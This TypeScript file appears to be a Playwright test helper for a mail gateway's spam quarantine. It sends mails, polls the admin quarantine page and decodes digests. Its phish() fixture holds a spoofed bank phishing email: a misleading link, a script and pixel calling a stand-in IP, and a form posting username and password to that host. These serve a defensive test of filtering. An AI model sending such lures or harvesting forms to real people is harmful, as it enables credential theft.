// Mail of one's own for each spec, so that specs do not take each other's, and what became of it.

import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { fetchPage } from './http';
import { site } from './site';
import { send } from './smtp';

let count = 0;

/** A word that occurs nowhere else in this run. */
export function unique(word: string): string {
  const { project, parallelIndex, retry } = test.info();
  count += 1;
  return `${word}-${project.name.replace('-', '')}-${Date.now().toString(36)}${parallelIndex}${retry}${count}`;
}

export interface Held {
  id: number;
  subject: string;
}

function message(from: string, to: string, subject: string, content: string): string {
  return (
    `From: ${from}\nTo: <${to}>\nSubject: ${subject}\nDate: ${new Date().toUTCString().replace('GMT', '+0000')}\n` +
    `Message-ID: <${subject.replace(/[^A-Za-z0-9]/g, '')}@mail.example>\nMIME-Version: 1.0\n${content}`
  );
}

/** A mail that pretends to come from a bank: the link's text and its target differ, a form asks for the password. */
export async function phish(to: string, word = unique('suspended')): Promise<Held> {
  const subject = `Urgent: your account has been ${word}`;
  const html =
    '<html><head><script>document.title = "owned"; fetch("http://198.51.100.23/ran");</script></head><body>' +
    '<p>Dear customer,</p><p>we noticed unusual sign-in activity and <b>your account has been suspended</b>. Please ' +
    'verify your password and card number within 24 hours, or your account will be permanently closed.</p>' +
    '<p><a href="http://198.51.100.23/secure/login.php?session=81">https://www.bank.example/login</a></p>' +
    '<img src="http://198.51.100.23/pixel.png" width=1 height=1 onerror="alert(1)">' +
    '<form action="http://198.51.100.23/collect"><input name=user><input type=password name=pass>' +
    '<input type=submit value="Verify"></form></body></html>';
  const text = 'Dear customer,\n\nyour account has been suspended. Verify it: http://198.51.100.23/bank.example/login\n';
  const content =
    'Content-Type: multipart/alternative; boundary="alt-e2e"\n\n--alt-e2e\nContent-Type: text/plain; charset=utf-8\n\n' +
    `${text}\n--alt-e2e\nContent-Type: text/html; charset=utf-8\n\n${html}\n--alt-e2e--\n`;
  const from = '"Example Bank Security" <security@bank-example-login.example>';
  await send('bounce@bank-example-login.example', to, message(from, to, subject, content));
  return { id: await heldAs(word), subject };
}

/** A clean mail. */
export async function letter(to: string, word: string): Promise<void> {
  const content =
    'Content-Type: text/plain; charset=utf-8\n\nGood morning,\n\nthe revised drawings are on the shared folder. The ' +
    'stair moved by twenty centimetres, as you asked.\n\nJon\n';
  await send('jon@builders.test', to, message('Jon Hale <jon@builders.test>', to, `Drawings ${word}`, content));
}

/** Waits until exactly one held message has `word` in its subject; its number. */
async function heldAs(word: string): Promise<number> {
  let id = 0;
  await expect
    .poll(
      async () => {
        const page = await fetchPage(`/admin/quarantine?q=${word}`, site().admin.cookie);
        id = Number(/\/admin\/quarantine\/(\d+)"/.exec(page.body)?.[1] ?? 0);
        return id;
      },
      { message: `a held message with ${word} in its subject`, timeout: 40_000 },
    )
    .toBeGreaterThan(0);
  return id;
}

/** Everything that the gateway got, newest first. */
function caught(): string[] {
  const directory = site().sink;
  const files = readdirSync(directory).filter((f) => f.endsWith('.eml')).sort().reverse();
  return files.map((f) => join(directory, f)).filter((f) => statSync(f).size < 1_000_000).map((f) => readFileSync(f, 'utf8'));
}

/** Messages at the gateway that contain `word`. */
export function arrived(word: string): string[] {
  return caught().filter((m) => m.includes(word));
}

/** Waits for one message with `word` at the gateway. */
export async function arrival(word: string): Promise<string> {
  await expect.poll(() => arrived(word).length, { message: `mail with ${word} at the gateway`, timeout: 40_000 }).toBe(1);
  return arrived(word)[0] ?? '';
}

/** The header's value, unfolded; undefined where it is missing. */
export function header(raw: string, name: string): string | undefined {
  const head = (raw.split(/\r?\n\r?\n/, 1)[0] ?? '').replace(/\r?\n[ \t]+/g, ' ');
  const line = head.split(/\r?\n/).find((l) => l.toLowerCase().startsWith(`${name.toLowerCase()}:`));
  return line?.slice(name.length + 1).trim();
}

/** The newest digest for `to`, quoted-printable undone. */
export async function digest(to: string): Promise<string> {
  const find = () => caught().find((m) => /^Subject: Spam digest/im.test(m) && header(m, 'to')?.includes(to));
  await expect.poll(() => find() !== undefined, { message: `a digest for ${to}`, timeout: 40_000 }).toBe(true);
  return (find() ?? '')
    .replace(/=\r?\n/g, '')
    .replace(/=([0-9A-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
}
